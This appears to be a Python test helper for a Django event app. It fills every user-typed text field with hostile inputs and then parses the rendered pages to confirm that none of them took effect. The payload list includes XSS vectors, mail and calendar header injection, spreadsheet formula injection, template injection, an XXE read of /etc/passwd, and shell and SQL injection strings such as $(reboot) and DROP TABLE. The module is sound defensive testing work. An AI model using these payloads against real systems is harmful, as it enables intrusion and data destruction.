"""What people type who mean harm, put into every text field there is, and a reader that sees what came of it."""

from collections import Counter
from html.parser import HTMLParser
from itertools import count, cycle

from django.apps import apps
from django.core.validators import URLValidator
from django.db import models

from events.models import SearchWord
from outbox.markdown import TAGS, MarkdownField

PAYLOADS = [
    "</script><script>alert('pwned')</script>",
    '"><img src=x onerror=alert(1) pwned>',
    "Bcc: spy@pwned.example\r\nBcc: spy@pwned.example",
    "{{ 7|add:7 }}{% debug %}%(name)s%s%{0.__class__}{event.pk}${x}",
    "=1+1",
    "' autofocus onfocus=alert(1) pwned='",
    "Zeile\u2028END:VEVENT\u2029BEGIN:VALARM\x85X",
    "<svg pwned onload=alert(1)><script>1</script></svg>",
    "[Klick](javascript:alert%281%29) [zwei](JaVa\tScRiPt:alert(1))",
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:pwned\r\nATTACH:https://pwned.example",
    "<math><mtext><mglyph><style><img pwned onerror=alert(1)></style></mglyph></mtext></math>",
    "+49 30 1234",
    "[a](data:text/html;base64,PHN2Zz4=) ![b](https://pwned.example/x.png)",
    "\t=cmd|' /C calc'!A0",
    "[c](&#106;avascript:alert(1)) <javascript:alert(1)> [d](vbscript:x)",
    "Anna \u202egnp.exe\u2066 \u200f",
    "раураl \uff1cscript\uff1e \uff1d1+1",
    "🦙👩🏽‍💻 Zoë ﷽ e\u0301",
    "<!--<a pwned href='javascript:1'>--><![CDATA[<pwned/>]]>&lt;b pwned&gt;&#60;i pwned&#62;",
    "<a href=javascript:alert(1) pwned style=x:expression(1)>x</a><base href=//pwned.example>",
    "]]></summary><entry><id>pwned</id></entry><x xmlns='urn:x'>",
    '";X-PWNED=1:;,\\n\\;,\\',
    "<iframe srcdoc='<script pwned>'></iframe><form action=//pwned.example><input name=pwned>",
    "-1;@SUM(A1);\x0b\x0c\x01\x1b[31m",
    "`<b pwned>`\n\n    <b pwned>\n\n<b pwned>\n> <b pwned>\n\n| a |\n|---|\n| <b pwned> |",
    # Markup that browsers repair
    "<scr<script>ipt>pwned</scr</script>ipt><ScRiPt\t/src=//pwned.example>",
    "</title></textarea></style></noscript></template><pwned>",
    "<noscript><p title='</noscript><img pwned src=x onerror=alert(1)>'></noscript>",
    "<style>@import'//pwned.example';x{background:url(//pwned.example)}</style><link pwned rel=stylesheet href=//x>",
    "<meta pwned http-equiv=refresh content='0;url=//pwned.example'>",
    "<object pwned data=//pwned.example></object><embed src=//pwned.example>",
    "<video pwned><source onerror=alert(1)></video><audio src=x onerror=pwned>",
    "<details open ontoggle=alert(1) pwned><summary>x</summary></details>",
    "<svg><animate pwned href=#x attributeName=href values=javascript:pwned></animate></svg>",
    "<svg><use pwned href='data:image/svg+xml,<svg id=x>#x'></use><foreignObject><pwned></foreignObject></svg>",
    "<math href=javascript:alert(1) pwned><maction actiontype=statusline xlink:href=javascript:pwned>x</math>",
    "<img pwned srcset='//pwned.example/x 1x' src=\"x\"style=animation-name:x onanimationstart=alert(1)>",
    # Data blocks, feeds and other XML
    "<!--<script>",
    '"}]}</script><pwned>{"@type":"pwned"',
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><pwned>&y;&lol9;</pwned>",
    "\ufffe\uffff\U0001fffe\ue000\U000e0041\U000e007f",
    # Schemes in Markdown, encoded
    "[e](javascript&colon;alert(1)) [f](\x01javascript:alert(1)) [g](java\nscript:alert(1)) [h](JAVASCRIPT&#58;1)",
    "[i][j] ![k][j]\n\n[j]: javascript:alert(1) 'x'",
    '![l](x.png "onerror=alert(1) pwned") ![m](data:image/svg+xml;base64,PHN2Zz4=)',
    "[n](<javascript:alert(1)>) [o](%6aavascript:alert(1)) [p](feed:javascript:alert(1)) <data:text/html,pwned>",
    "<x:y\"onmouseover=alert(1)pwned='> [q](\"onmouseover=alert(1)pwned=')",
    "|r|\n|:-|\n|[s](javascript:alert(1))|<pwned>|",
    # Other ways to write what is meant
    "%3Cscript%3Epwned%3C/script%3E \\x3cpwned\\x3e \\u003cpwned\\u003e &amp;lt;pwned&amp;gt;",
    "+ADw-script+AD4-pwned+ADw-/script+AD4-",
    "\x1b$B<pwned>\x1b(B\x9bpwned\x7f\x80\x02\x08\x1f",
    # Templates
    "{{constructor.constructor('pwned')()}} <%= 1337*1337 %> #{1337*1337} ${1337*1337} {{1337*1337}} {1337*1337}",
    "%s %d %n %(x)s %(event)s %% {} {event} {0.__class__.__init__.__globals__} {name!r:>999999999}",
    "{% load static %}{% include 'admin/base.html' %}{{ request.user }}{# pwned #}{% endblock %}{% verbatim %}",
    '#let x = read("/etc/passwd"); #link("//pwned.example")[x] $x$ @pwned <pwned> \\input{/etc/passwd}',
    "$(reboot)`reboot`; DROP TABLE events_event;--' OR '1'='1 \\",
    # Formulas
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("//pwned.example","x")',
    "\u00a0=1+1",
    "\uff0d1+1",
    "\r\n-1+1",
    # Mail and calendar
    "To: spy@pwned.example\nSubject: pwned\n\n<pwned>",
    "=?utf-8?q?Bcc=3A_spy=40pwned.example=0D=0A?= =?utf-8?b?DQpCY2M6IHNweUBwd25lZC5leGFtcGxl?=",
    "BEGIN:VALARM\\nACTION:AUDIO\\nATTACH;VALUE=URI:https://pwned.example\\nEND:VALARM",
    "pwned\x85ATTENDEE:mailto:spy@pwned.example\x1dURL:javascript:1\x0cX",
    # What looks like something else, or like nothing
    "\u202e\u2067drow\u2069\u202c \u061c\u200e\u200b\u200c\u200d\ufeff\u00ad\u2060",
    "\u0430dmin@\u0435\u0445\u0430mple.org \u2170\u2171 \ufb01 \uff53\uff43\uff52 \ufe64pwned\ufe65 \u2039pwned\u203a",
    "Z" + "\u0334\u0335\u0336" * 40,
    "W" * 300,
    "[" * 60 + "(" * 60 + ">" * 60 + "*" * 60 + "`" * 61,
]
STARTS = range(0, len(PAYLOADS), 23)  # with which payload the first field begins
HARMLESS = [f"Wort {number}" for number in range(500)]
# What participants type may not even become a link of a mail program, so theirs can be told from organisers'.
LINKS = ["Gewinn: https://evil.example/?a=b", "www.evil.example x@evil.example [hier](https://evil.example) \u202eevil"]
# Not typed: keys, derived values, and codes that are checked against a list.
NOT_TYPED = {
    "sort_key", "uid", "key", "language", "time_zone", "country", "source", "source_id", "source_licence",
    "address_key", "door_code", "notice_version", "approved_digest", "allowed_domains", "password", "model",
    "kind",
}  # fmt: skip
THEIRS = {
    "Registration", "Answer", "InvitedGuest", "Voice", "AudienceQuestion", "Point", "Proposal", "Comment",
    "Contributor", "Report",
}  # fmt: skip
ONE_OF_SEVERAL = {"Origin": "label"}  # is filled in only where the row is nothing else
KEPT = {"Tally", "Erasure", "Attempt", "Round", "Call", "Export", "CalendarLink", "FormerSlug"}
APPS = ("accounts", "pictures", "speakers", "events", "registrations", "participation")


def typed_fields(model):
    """The fields of a model that somebody types free text into."""
    for field in model._meta.local_concrete_fields:
        is_text = type(field) in (models.CharField, models.TextField, MarkdownField)
        if is_text and not field.choices and field.name not in NOT_TYPED:
            yield field


def spoil(model, numbers, payloads):
    """Write payloads into every text field of every row of a model, each field beginning with another one."""
    if payloads is PAYLOADS and model.__name__ in THEIRS:
        payloads = [each for pair in zip(PAYLOADS, cycle(LINKS), strict=False) for each in pair]
    fields = list(typed_fields(model))
    for row in model._base_manager.all():
        for field in fields:
            if field.name == ONE_OF_SEVERAL.get(model.__name__) and not getattr(row, field.name):
                continue
            first = next(numbers) % len(payloads)
            between = " " if isinstance(field, models.CharField) else "\n\n"
            text = between.join(payloads[first:] + payloads[:first]) if payloads is not HARMLESS else payloads[first]
            setattr(row, field.name, text[: field.max_length])
        if model.__name__ == "Answer":
            row.value = " ".join(payloads[:60])
        row.save()


def fill_everything(start=0, payloads=PAYLOADS, only=None):
    """Everything in the database that somebody typed is hostile from here on; or harmless, with other payloads.

    ``only`` names models that are enough.
    """
    numbers = count(start)
    for model in apps.get_models():
        if only and model.__name__ not in only:
            continue
        is_ours = model._meta.app_label in APPS and not model._meta.proxy
        if is_ours and model is not SearchWord and model.__name__ not in KEPT:
            spoil(model, numbers, payloads)


def address_fields():
    """Every field that holds a web address."""
    for model in apps.get_models():
        if model._meta.app_label in APPS and not model._meta.proxy:
            for field in model._meta.local_concrete_fields:
                if any(isinstance(validator, URLValidator) for validator in field.validators):
                    yield field


class Page(HTMLParser):
    """Elements, attributes and addresses of a page, with the contents of data blocks, as a browser makes them out."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.data, self.texts = Counter(), set(), [], [], []
        self.block = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags[tag] += 1
        for name, value in attributes:
            self.attributes.add(name)
            if name in ("href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "content"):
                self.addresses.append("".join((value or "").split()).lower())
        self.block = dict(attributes).get("type") if tag == "script" else None

    def handle_endtag(self, tag):
        if tag == "script":
            self.block = None

    def handle_data(self, text):
        (self.data if self.block == "application/ld+json" else self.texts).append(text)

    @property
    def skeleton(self):
        """How often there is each element that no Markdown makes."""
        return {tag: number for tag, number in self.tags.items() if tag not in TAGS | {"span", "div"}}

    def check(self, where):
        """Nothing that a payload wanted to be has become of it."""
        bad = {name for name in self.attributes if name.startswith("on") or "pwned" in name or "<" in name}
        assert not bad | (self.attributes & {"srcdoc"}), (where, bad)  # noqa: S101
        assert not {tag for tag in self.tags if "pwned" in tag or tag in FORBIDDEN}, where  # noqa: S101
        for address in self.addresses:
            assert not address.startswith(("javascript:", "data:", "vbscript:")), (where, address)  # noqa: S101
        return self


FORBIDDEN = {"iframe", "math", "base", "object", "embed", "mglyph"}
